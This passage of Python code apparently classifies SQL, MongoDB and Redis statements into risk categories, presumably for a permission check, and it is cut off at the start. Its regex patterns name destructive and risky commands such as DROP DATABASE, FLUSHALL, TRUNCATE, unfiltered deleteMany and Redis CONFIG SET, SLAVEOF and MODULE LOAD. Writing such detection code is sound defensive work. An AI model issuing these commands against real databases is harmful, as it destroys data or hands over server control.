    (DELETE or deleteMany/remove without a filter), ``update_all``, ``delete_scoped``,
    ``update_scoped``, ``insert``, ``ddl`` (CREATE/ALTER), ``grant``, ``user`` (users and
    passwords), ``read`` (SELECT/SHOW/count ...), ``key_delete`` (Redis DEL/UNLINK),
    ``config`` (Redis CONFIG SET / SLAVEOF / MODULE LOAD), ``shutdown``.
    """
    if not text:
        return frozenset()
    kinds: set[str] = set()
    cleaned = _SQL_COMMENT.sub(" ", text)
    for statement in _SQL_SPLIT.split(cleaned):
        s = " ".join(statement.split())
        if not s:
            continue
        up = s.upper()
        if re.search(r"\bDROP\s+(DATABASE|SCHEMA|KEYSPACE|OWNED)\b", up) or "DROPDATABASE(" in up.replace(
            " ", ""
        ):
            kinds.add("drop_database")
        if re.search(r"^\s*(FLUSHALL|FLUSHDB)\b", up) or re.search(r"\bFLUSH(ALL|DB)\b", up):
            kinds.add("drop_database")
        drop = re.search(
            r"\bDROP\s+(TABLE|VIEW|INDEX|COLLECTION|MATERIALIZED\s+VIEW|TYPE|FUNCTION)\b(.*)", up
        )
        if drop:
            kinds.add("drop_table")
            if "CASCADE" in up or "," in drop.group(2):
                kinds.add("drop_many")
        if re.search(r"\.DROP\(\s*\)", up) or re.search(r"\bDROPCOLLECTION\b", up):
            kinds.add("drop_table")
        if re.search(r"\bTRUNCATE\b", up):
            kinds.add("truncate")
        scoped = bool(re.search(r"\bWHERE\b", up)) and not _ALWAYS_TRUE_WHERE.search(up)
        if re.search(r"\bDELETE\s+FROM\b", up):
            kinds.add("delete_scoped" if scoped else "delete_all")
        if re.search(r"^\s*UPDATE\s+\S+\s+SET\b", up) or re.search(r"\bUPDATE\s+\S+\s+SET\b", up):
            kinds.add("update_scoped" if scoped else "update_all")
        mongo_delete = re.search(r"\.(DELETEMANY|REMOVE|UPDATEMANY)\(\s*(\{\s*\})?\s*[,)]?", up)
        if mongo_delete:
            empty = mongo_delete.group(2) is not None or re.search(r"\.(DELETEMANY|REMOVE)\(\s*\)", up)
            verb = "delete" if "UPDATE" not in mongo_delete.group(1) else "update"
            kinds.add(f"{verb}_all" if empty else f"{verb}_scoped")
        if re.search(r"\b(DELETEONE|UPDATEONE|REPLACEONE|FINDONEANDDELETE)\(", up):
            kinds.add("delete_scoped")
        if re.search(r"^\s*(INSERT|UPSERT|MERGE|COPY)\b|\.INSERT(ONE|MANY)?\(", up):
            kinds.add("insert")
        if re.search(r"^\s*(CREATE|ALTER|RENAME|COMMENT|REINDEX|VACUUM|CLUSTER)\b", up) or re.search(
            r"\.(CREATECOLLECTION|CREATEINDEX|DROPINDEX|DROPINDEXES|RENAMECOLLECTION|CREATEVIEW|RUNCOMMAND|"
            r"ADMINCOMMAND|CREATEUSER|UPDATEUSER|GRANTROLESTOUSER|SETPROFILINGLEVEL)\(",
            up,
        ):
            kinds.add("ddl")
        if re.search(r"\b(GRANT|REVOKE)\b", up):
            kinds.add("grant")
        if re.search(r"\b(CREATE|ALTER|DROP)\s+(USER|ROLE)\b|IDENTIFIED\s+BY|\bPASSWORD\b", up):
            kinds.add("user")
        if re.search(r"^\s*(DEL|UNLINK|EXPIRE|HDEL|SREM|ZREM|LPOP|RPOP)\b", up):
            kinds.add("key_delete")
        if re.search(r"^\s*(SET|HSET|LPUSH|RPUSH|SADD|ZADD|INCR|DECR|MSET|APPEND)\b", up):
            kinds.add("insert")
        if re.search(r"^\s*(CONFIG\s+SET|SLAVEOF|REPLICAOF|MODULE\s+LOAD|DEBUG|MIGRATE)\b", up):
            kinds.add("config")
        if re.search(r"^\s*SHUTDOWN\b|\.SHUTDOWNSERVER\(", up):
            kinds.add("shutdown")
        if re.search(
            r"^\s*(SELECT|SHOW|DESCRIBE|DESC|EXPLAIN|WITH|\\D|\.SCHEMA|\.TABLES|INFO|GET|KEYS|SCAN|"
            r"HGET|HGETALL|TTL|EXISTS|PING|DBSIZE|LRANGE|SMEMBERS|MGET|TYPE|STRLEN|MONITOR|"
            r"SLOWLOG|CLIENT\s+LIST)\b",
            up,
        ) or re.search(
            r"\.(FIND|FINDONE|COUNT|COUNTDOCUMENTS|"
            r"AGGREGATE|GETCOLLECTIONNAMES|STATS)\(",
            up,
        ):
            kinds.add("read")
    return frozenset(kinds)
